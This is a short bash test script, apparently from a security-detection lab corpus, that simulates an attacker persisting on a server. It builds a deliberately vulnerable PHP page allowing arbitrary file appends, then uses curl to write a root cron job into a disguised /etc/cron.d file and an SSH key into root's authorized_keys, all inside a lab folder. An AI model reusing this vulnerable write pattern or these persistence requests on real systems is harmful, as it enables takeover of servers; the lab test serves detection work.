#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=php far=out services=nvr:8088 seconds=18 parts=dns before=yes
# A page in PHP that a server has had since its start has a hole: somebody outside has it write a job of cron and a key; the host's root is a folder of the lab.
# config: host_root: {dir}/host
# shellcheck disable=SC2016,SC2028 # other languages have variables of their own, no escapes meant
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = services ]; then
	mkdir -p "$LAB/page"; echo '<?php file_put_contents(getenv("LAB") . "/host" . $_POST["p"], $_POST["d"] . "\n", FILE_APPEND); echo "ok";' >"$LAB/page/save.php"
	exec timeout 60 php -S 10.30.0.2:8088 -t "$LAB/page" 2>/dev/null
fi
if [ "$1" = out ]; then
	sleep 4; curl -s --data-urlencode p=/etc/cron.d/e2scrub --data-urlencode 'd=*/5 * * * * root /dev/shm/.x' http://10.30.0.2:8088/save.php
	sleep 3; curl -s --data-urlencode p=/root/.ssh/authorized_keys --data-urlencode 'd=ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0 x' http://10.30.0.2:8088/save.php; sleep 8; exit 0
fi
sleep 14; grep -q root "$LAB/host/etc/cron.d/e2scrub" && grep -q ed25519 "$LAB/host/root/.ssh/authorized_keys"
